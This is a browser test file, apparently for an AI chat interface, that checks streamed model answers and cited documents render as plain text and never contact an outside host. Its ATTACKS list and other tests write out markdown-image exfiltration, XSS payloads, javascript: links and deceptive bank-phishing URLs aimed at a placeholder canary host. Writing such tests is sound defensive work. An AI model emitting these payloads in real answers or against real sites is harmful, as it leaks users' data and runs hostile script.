"""What a model or a document says is shown, never done: no request leaves the page, nothing runs."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

SECONDS = 20.0

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

Visiting = Callable[..., Awaitable[Any]]

SAFE = (
    "A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG "
    "TABLE TBODY TD TH THEAD TR UL"
)

ATTACKS = (
    "![x](CANARY/?q=secret)",
    "![x][1]\n\n[1]: CANARY/?q=secret",
    "[a][2] and [b]\n\n[2]: CANARY/?q=1\n[b]: CANARY/?q=2",
    "<img src=CANARY/?q=secret onerror=fetch('CANARY')>",
    "<svg onload=\"fetch('CANARY')\"><image href=CANARY/></svg>",
    "<script>fetch('CANARY')</script>",
    "<iframe src=CANARY></iframe><object data=CANARY></object><embed src=CANARY>",
    "<style>body { background: url(CANARY/?q=secret) } @import 'CANARY';</style>",
    '<p style="background: url(CANARY)">x</p>',
    '<link rel=stylesheet href=CANARY><link rel=prefetch href=CANARY><base href="CANARY">',
    '<meta http-equiv=refresh content="0; url=CANARY">',
    '<form action=CANARY><input autofocus onfocus="this.form.submit()"></form>',
    "[x](javascript:fetch('CANARY')) [y](JaVaScRiPt:fetch`CANARY`) <javascript:alert(1)>",
    "[x](data:text/html,<script>fetch('CANARY')</script>)",
    "[x](blob:CANARY/1) [y](file:///etc/passwd) [z](vbscript:x)",
    "```html\n<img src=CANARY>\n```\n`<img src=CANARY>`",
    "| a | b |\n|---|---|\n| <img src=CANARY> | ![x](CANARY) |",
    "&lt;img src=CANARY&gt; &#60;img src=CANARY&#62;",
    '**[![x](CANARY)](javascript:alert(1))** *<b>_[x]("onmouseover=alert(1))_',
    "\ufdd00\ufdd1 \ufdd099\ufdd1 \ufdd1\ufdd0 ![x](CANARY)",
)


@pytest_asyncio.fixture(scope="session", loop_scope="session")
async def canary(listening: Any) -> AsyncIterator[Any]:
    """Something that must never be asked: it notes who came."""
    visitors: list[bytes] = []

    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        visitors.append(await reader.read(1000))

    async with listening(note) as address:
        yield address, visitors
    assert visitors == []


async def ask(page: Page, model: Any, *pieces: Any) -> None:
    model.says(*pieces)
    await page.get_by_label("Your question").fill("How do I stop an answer?")
    await page.keyboard.press("Enter")


async def settled(page: Page) -> None:
    """Wait for the end, and until whatever was going to be loaded would have been asked for."""
    await expect(page.locator(".turn").last).to_have_attribute("data-ended", "message_complete")
    await page.evaluate("new Promise((done) => requestIdleCallback(done))")


async def unsafe(page: Page) -> list[str]:
    """Return what stands in the answer besides text and safe formatting."""
    found: list[str] = await page.locator(".prose").last.evaluate(
        """(prose, safe) => [...prose.querySelectorAll("*")].flatMap((element) => [
            ...(safe.includes(element.tagName) ? [] : [element.tagName]),
            ...[...element.attributes].map(({name}) => name).filter((name) => /^(on|style$|src)/.test(name)),
        ])""",
        SAFE.split(),
    )
    return found


async def test_nothing_is_done(
    modelled: str, model: Any, visiting: Visiting, canary: tuple[str, list[bytes]]
) -> None:
    page = (await visiting(modelled)).page
    address, visitors = canary
    text = "\n\n".join(attack.replace("CANARY", address) for attack in ATTACKS)
    await ask(page, model, *(text[i : i + 3] for i in range(0, len(text), 3)), "\n\nThe end.")
    await settled(page)
    await expect(page.locator(".prose")).to_contain_text("The end.")
    assert await unsafe(page) == []
    assert await page.locator(".prose a:not([href^='http']):not([href^='mailto:'])").count() == 0
    assert visitors == []


async def test_an_image_that_comes_in_forty_events_is_text(
    modelled: str, model: Any, visiting: Visiting, canary: tuple[str, list[bytes]]
) -> None:
    page = (await visiting(modelled)).page
    address, visitors = canary
    text = f"![x]({address}/?q=" + "secret" * 10 + ")"
    size = -(-len(text) // 40)
    await ask(page, model, *(text[i : i + size] for i in range(0, len(text), size)))
    await settled(page)
    await expect(page.locator(".prose")).to_have_text(f"x ({text[5:-1]})")
    assert await unsafe(page) == []
    assert visitors == []


async def test_a_link_exists_once_all_of_it_has_arrived(
    modelled: str, model: Any, visiting: Visiting
) -> None:
    page = (await visiting(modelled)).page
    steps = [asyncio.Event() for _ in range(3)]
    text = ("[your bank](https://bank.exam", "ple", ".evil.invalid/", "login)")
    await ask(page, model, text[0], steps[0], text[1], steps[1], text[2], steps[2], text[3])
    for said, step in enumerate(steps, start=1):
        await expect(page.locator(".prose")).to_have_text("".join(text[:said]))
        await expect(page.locator(".prose a[href*=bank]")).to_have_count(0)
        step.set()
    await settled(page)
    await expect(page.locator(".prose a")).to_have_attribute(
        "href", "https://bank.example.evil.invalid/login"
    )


LINKS = (  # what is said, where it leads, what is shown
    ("[a bank](https://bank.example/)", "https://bank.example/", "a bank (bank.example)"),
    ("[bank.example](https://evil.invalid/)", "https://evil.invalid/", "bank.example (evil.invalid)"),
    ("[x](https://\u0430pple.example)", "https://xn--pple-43d.example/", "x (xn--pple-43d.example)"),
    ("<https://a.example/b>", "https://a.example/b", "https://a.example/b"),
    ("https://a.example/b.", "https://a.example/b", "https://a.example/b."),
    ("[write](mailto:a@b.example)", "mailto:a@b.example", "write (a@b.example)"),
)


async def test_a_link_says_where_it_leads(modelled: str, model: Any, visiting: Visiting) -> None:
    page = (await visiting(modelled)).page
    said, leads, shown = zip(*LINKS, strict=True)
    await ask(page, model, "\n\n".join(said))
    await settled(page)
    await expect(page.locator(".prose p")).to_have_text(list(shown))
    anchors = await page.locator(".prose a").all()
    assert [await anchor.get_attribute("href") for anchor in anchors] == list(leads)
    assert {await anchor.get_attribute("rel") for anchor in anchors} == {"noopener noreferrer nofollow"}


async def test_an_address_that_deceives_is_no_link(modelled: str, model: Any, visiting: Visiting) -> None:
    page = (await visiting(modelled)).page
    deceiving = (
        "https://bank.example@evil.invalid/",
        "[x](https://me:secret@a.example/)",
        "[x](//a.example)",
    )
    await ask(page, model, "\n\n".join(deceiving))
    await settled(page)
    await expect(page.locator(".prose p")).to_have_count(3)
    await expect(page.locator(".prose a")).to_have_count(0)


async def test_formatting_is_shown(modelled: str, model: Any, visiting: Visiting) -> None:
    page = (await visiting(modelled)).page
    listed = "# Verbs\n\n1. **stop**[1]\n2. *leave*\n\n| a | b |\n|---|--:|\n| 1 | `[1]` |\n\n"
    await ask(page, model, listed, "```py\nif a < b: [1]\n```\n> said ~~so~~")
    await settled(page)
    prose = page.locator(".prose")
    await expect(prose.get_by_role("heading", name="Verbs")).to_be_visible()
    await expect(prose.get_by_role("listitem")).to_have_text(["stop1", "leave"])
    await expect(prose.locator("strong")).to_have_text("stop")
    await expect(prose.get_by_role("cell")).to_have_text(["1", "[1]"])
    await expect(prose.locator("pre")).to_have_text("if a < b: [1]")
    await expect(prose.locator("blockquote del")).to_have_text("so")
    await expect(prose.locator(".citation")).to_have_count(1)


async def test_a_hostile_document_is_text(address: str, visiting: Visiting) -> None:
    page = (await visiting(address)).page
    await page.get_by_label("Your question").fill("What does a zebra say?")
    await page.keyboard.press("Enter")
    await settled(page)
    await expect(page.locator(".prose")).to_contain_text("A zebra says")
    await page.locator(".citation").first.click()
    await expect(page.locator("#passage")).to_contain_text("<script>alert(1)</script>")
    await expect(page.locator(".source .title").first).to_contain_text("<img src=x onerror=alert(1)>")
    await page.get_by_role("button", name="Documents").click()
    await expect(page.locator(".documents .title").filter(has_text="onerror")).to_be_visible()
    assert await page.locator("main :is(img, script), .panel :is(img, script)").count() == 0


async def test_a_hostile_question_is_text_also_as_a_name(
    modelled: str, model: Any, visiting: Visiting
) -> None:
    page = (await visiting(modelled)).page
    model.says("No.")
    question = "<img src=x onerror=alert(1)> **x** [y](javascript:alert(1))"
    await page.get_by_label("Your question").fill(question)
    await page.keyboard.press("Enter")
    await settled(page)
    await expect(page.locator(".question p")).to_have_text(question)
    await expect(page.locator("#sessions .current .name")).to_contain_text("<img src=x")
    assert await page.locator("#sessions img").count() == 0


async def test_the_policy_is_strict_on_every_file(address: str, visiting: Visiting) -> None:
    page = (await visiting(address)).page
    policies: list[str] = await page.evaluate(
        """async () => {
          const files = performance.getEntriesByType("resource").map(({name}) => name);
          const mine = [location.href, ...files.filter((name) => name.includes("/static/"))];
          const answers = await Promise.all(mine.map((name) => fetch(name)));
          return answers.map((answer) => answer.headers.get("content-security-policy"));
        }"""
    )
    assert len(policies) > 10
    expected = (
        "default-src 'none'; script-src 'self'; img-src 'self'; connect-src 'self'; "
        "style-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
    )
    assert set(policies) == {expected}
